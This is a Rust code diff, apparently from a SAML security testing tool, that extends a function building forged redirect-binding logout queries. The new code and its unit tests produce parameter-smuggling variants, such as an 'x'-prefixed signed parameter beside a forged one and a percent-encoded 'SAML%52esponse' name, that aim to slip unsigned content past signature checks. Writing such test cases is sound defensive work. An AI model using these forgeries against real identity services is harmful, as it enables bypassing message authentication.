@@ -35,6 +35,20 @@ pub fn redirect_query(
         Ok(got)
     };
     let signed_request = || signed(donors.request, "SAMLRequest");
+    let signed_response = || signed(donors.response, "SAMLResponse");
+    // The donor's `message` pair renamed with an `x` before it, the forgery under `message`.
+    let prefixed = |pairs: Vec<&str>, message: &str| {
+        let mut parts = Vec::new();
+        for pair in pairs {
+            if pair.starts_with(&format!("{message}=")) {
+                parts.push(format!("x{pair}"));
+                parts.push(format!("{message}={forged}"));
+            } else {
+                parts.push(pair.to_owned());
+            }
+        }
+        parts.join("&")
+    };
     let join = |parts: Vec<String>| parts.join("&");
     match forgery {
         LogoutForgery::Unsigned => Ok(unsigned),
@@ -48,16 +62,11 @@ pub fn redirect_query(
             parts.extend(signed_request()?.into_iter().map(str::to_owned));
             Ok(join(parts))
         }
-        LogoutForgery::PrefixedParameter => {
-            let mut parts = Vec::new();
-            for pair in signed_request()? {
-                if pair.starts_with("SAMLRequest=") {
-                    parts.push(format!("x{pair}"));
-                    parts.push(format!("SAMLRequest={forged}"));
-                } else {
-                    parts.push(pair.to_owned());
-                }
-            }
+        LogoutForgery::PrefixedParameter => Ok(prefixed(signed_request()?, "SAMLRequest")),
+        LogoutForgery::PrefixedResponse => Ok(prefixed(signed_response()?, "SAMLResponse")),
+        LogoutForgery::EncodedResponseName => {
+            let mut parts = vec![format!("SAML%52esponse={forged}")];
+            parts.extend(signed_response()?.into_iter().map(str::to_owned));
             Ok(join(parts))
         }
         LogoutForgery::EncodedName => {
@@ -67,11 +76,7 @@ pub fn redirect_query(
         }
         LogoutForgery::RequestBesideResponse => {
             let mut parts = vec![format!("SAMLRequest={forged}")];
-            parts.extend(
-                signed(donors.response, "SAMLResponse")?
-                    .into_iter()
-                    .map(str::to_owned),
-            );
+            parts.extend(signed_response()?.into_iter().map(str::to_owned));
             Ok(join(parts))
         }
     }
@@ -129,6 +134,14 @@ mod tests {
         assert_eq!(
             query(LogoutForgery::RequestBesideResponse),
             format!("SAMLRequest={f}&SAMLResponse=R&SigAlg=A&Signature=T")
+        );
+        assert_eq!(
+            query(LogoutForgery::EncodedResponseName),
+            format!("SAML%52esponse={f}&SAMLResponse=R&SigAlg=A&Signature=T")
+        );
+        assert_eq!(
+            query(LogoutForgery::PrefixedResponse),
+            format!("xSAMLResponse=R&SAMLResponse={f}&SigAlg=A&Signature=T")
         );
     }
 }
